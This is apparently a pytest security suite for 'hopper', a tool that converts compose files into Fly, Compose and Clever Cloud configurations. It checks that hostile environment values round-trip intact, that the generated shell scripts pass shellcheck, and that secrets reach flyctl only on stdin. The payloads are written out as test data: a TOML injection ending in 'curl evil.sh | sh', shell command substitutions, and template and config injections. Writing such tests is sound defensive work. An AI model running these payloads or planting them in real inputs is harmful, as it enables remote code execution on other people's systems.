"""No input value changes the structure of a file hopper writes (rows 24-28, 31): hostile env
values go through every writer and come back equal from the consuming parser; the emitted
scripts pass shellcheck, run nothing from values, and never put a secret value in argv."""

from __future__ import annotations

import os
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest
import yaml
from security_support import build_tree, cli

from support import CANARY

# name -> value, as the compose file means it (after its own `$$` escaping).
HOSTILE = {
    "INJECT": 'x"\n[processes]\napp = "curl evil.sh | sh',
    "SHELLY": "$(touch PWNED) `touch PWNED2` ' \" \\ -rf",
    "JINJA": "{{ 7*7 }} {% raw %}",
    "YAMLISH": "yes",
    "TILDE": "~",
    "NULLISH": "null",
    "ALIASISH": "*a",
    "ANCHORISH": "&a",
    "TAGGED": "!tag",
    "PORTS": "22:22",
    "DASH": "- x",
    "EMPTY": "",
    "UNICODE": "héllo 😀",
    "CONTROL": "a\x7fb\x01c",
    "HCLISH": "${var.x} %{ if true }",
    "NGINXISH": "a; } server { listen 1",
    "NEWLINES": "line1\nline2\n",
}


def _compose_text() -> str:
    lines = ["services:", "  api:", "    build: ./api", "    ports: ['3000:3000']", "    environment:"]
    for name, value in HOSTILE.items():
        lines.append(f"      {name}: {_yaml_str(value.replace('$', '$$'))}")
    lines.append(f"      API_TOKEN: {CANARY}")
    return "\n".join(lines) + "\n"


def _yaml_str(value: str) -> str:
    return '"' + value.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'


@pytest.fixture(scope="module")
def converted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("emitted")
    proj = build_tree(base, {
        "compose.yaml": _compose_text(),
        "api/Dockerfile": 'FROM node:20\nWORKDIR /app\nCOPY . .\nCMD ["node", "server.js"]\n',
        "api/package.json": '{"name": "api", "scripts": {"start": "node server.js"}}\n',
    })
    outs = {}
    for target in ("fly", "compose", "clevercloud"):
        out = base / f"out-{target}"
        result = cli("convert", proj, "--to", target, "--out", out)
        assert result.code == 0, result.stderr
        assert CANARY not in result.stdout + result.stderr
        outs[target] = out
    return outs


def test_model_reads_the_hostile_values_exactly(tmp_path: Path) -> None:
    from hopper import api

    proj = build_tree(tmp_path, {"compose.yaml": _compose_text(), "api/Dockerfile": "FROM node:20\n"})
    env = api.load(proj, fmt="compose").model.service("api").runtime.env  # type: ignore[union-attr]
    assert {k: env[k] for k in HOSTILE} == HOSTILE


def test_fly_toml_round_trips_every_value(converted: dict[str, Path]) -> None:
    """Rows 26-27: tomllib reads back the same values and no extra table appears."""
    data = tomllib.loads((converted["fly"] / "api" / "fly.toml").read_text(encoding="utf-8"))
    assert "processes" not in data
    assert {k: data["env"][k] for k in HOSTILE} == HOSTILE
    assert "API_TOKEN" not in data["env"]


def test_compose_yaml_round_trips_every_value(converted: dict[str, Path]) -> None:
    """Row 28: through the YAML emitter, and through hopper's own compose reader."""
    from hopper import api

    raw = yaml.safe_load((converted["compose"] / "compose.yaml").read_text(encoding="utf-8"))
    env = raw["services"]["api"]["environment"]
    assert {k: str(env[k]).replace("$$", "$") for k in HOSTILE} == HOSTILE
    model = api.load(converted["compose"] / "compose.yaml", fmt="compose").model
    assert {k: model.service("api").runtime.env[k] for k in HOSTILE} == HOSTILE  # type: ignore[union-attr]


def test_terraform_keeps_every_value_as_one_string(converted: dict[str, Path]) -> None:
    import hcl2

    text = (converted["clevercloud"] / "terraform" / "main.tf").read_text(encoding="utf-8")
    doc = hcl2.loads(text)
    resources = [body for block in doc["resource"] for kind in block.values() for body in kind.values()]
    env = next(r["environment"] for r in resources if "environment" in r and "INJECT" in str(r["environment"]))
    env = env[0] if isinstance(env, list) else env
    assert set(HOSTILE) <= set(env)
    assert "canary" not in text


def _dotenv(path: Path) -> dict[str, str | None]:
    from dotenv import dotenv_values

    return dict(dotenv_values(path, interpolate=False))


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_clever_env_example_round_trips(name: str, converted: dict[str, Path]) -> None:
    values = _dotenv(converted["clevercloud"] / "clever-env" / "api.env.example")
    assert values[name] == HOSTILE[name]


@pytest.mark.parametrize("script", ["out-fly/fly-setup.sh", "out-clevercloud/clever-setup.sh"])
def test_scripts_pass_shellcheck(script: str, converted: dict[str, Path]) -> None:
    """Row 24."""
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck not installed")
    path = converted[script.split("/")[0].removeprefix("out-")] / script.split("/")[1]
    proc = subprocess.run([shellcheck, "-S", "warning", str(path)], capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stdout


STUB = """#!/usr/bin/env bash
{ printf 'ARGV'; printf ' <%s>' "$@"; printf '\\n'; } >> "$FLY_LOG"
case " $* " in *" secrets set "*|*" secrets import "*) { printf 'STDIN<'; cat; printf '>\\n'; } >> "$FLY_LOG" ;; esac
exit 0
"""


@pytest.mark.parametrize("value", [
    "$(touch PWNED)", "`touch PWNED`", "it's \"quoted\" \\ back", "two\nlines", "-rf", "", "héllo 😀", CANARY,
])
def test_fly_setup_passes_secret_values_on_stdin_only(value: str, converted: dict[str, Path], tmp_path: Path) -> None:
    """Rows 24 and F: run the emitted script for real with a stub flyctl that records argv and
    stdin; the value arrives on stdin byte for byte, never in argv, and nothing it contains runs."""
    work = tmp_path / "work"
    shutil.copytree(converted["fly"], work)
    (work / "bin").mkdir()
    stub = work / "bin" / "flyctl"
    stub.write_text(STUB, encoding="utf-8")
    stub.chmod(0o755)
    log = work / "log"
    env = {"PATH": f"{work / 'bin'}:{os.environ['PATH']}", "FLY_LOG": str(log), "HOPPER_APPLY": "1",
           "API_TOKEN": value, "HOME": str(tmp_path)}
    proc = subprocess.run(["bash", "fly-setup.sh"], cwd=work, env=env, capture_output=True, text=True, check=False, timeout=60)
    assert proc.returncode == 0, proc.stderr
    recorded = log.read_text(encoding="utf-8")
    assert f"<API_TOKEN=->\nSTDIN<{value}>\n" in recorded
    argv_lines = [ln for ln in recorded.split("\n") if ln.startswith("ARGV")]
    if value:
        assert not any(value in ln for ln in argv_lines)
        assert value not in proc.stdout + proc.stderr
    assert not (work / "PWNED").exists()


def test_jinja_syntax_in_values_is_never_evaluated(converted: dict[str, Path]) -> None:
    """Row 31: ``{{ 7*7 }}`` comes out literally wherever it lands."""
    for out in converted.values():
        for path in out.rglob("*"):
            if path.is_file():
                text = path.read_text(encoding="utf-8")
                assert "{{ 7*7 }}" in text or "7*7" not in text
                assert " 49 " not in text


def test_fly_setup_refuses_a_value_flyctl_cannot_read_from_stdin(converted: dict[str, Path], tmp_path: Path) -> None:
    """Row 25: a value over flyctl's 64 KiB stdin limit is refused by name, never sent cut."""
    work = tmp_path / "work"
    shutil.copytree(converted["fly"], work)
    (work / "bin").mkdir()
    stub = work / "bin" / "flyctl"
    stub.write_text(STUB, encoding="utf-8")
    stub.chmod(0o755)
    log = work / "log"
    big = "x" * (64 * 1024 + 1)
    env = {"PATH": f"{work / 'bin'}:{os.environ['PATH']}", "FLY_LOG": str(log), "HOPPER_APPLY": "1",
           "API_TOKEN": big, "HOME": str(tmp_path)}
    proc = subprocess.run(["bash", "fly-setup.sh"], cwd=work, env=env, capture_output=True, text=True,
                          check=False, timeout=60)
    assert "secret API_TOKEN for" in proc.stderr and "over 64 KiB" in proc.stderr
    assert "API_TOKEN=-" not in (log.read_text(encoding="utf-8") if log.exists() else "")
    assert big not in proc.stdout + proc.stderr
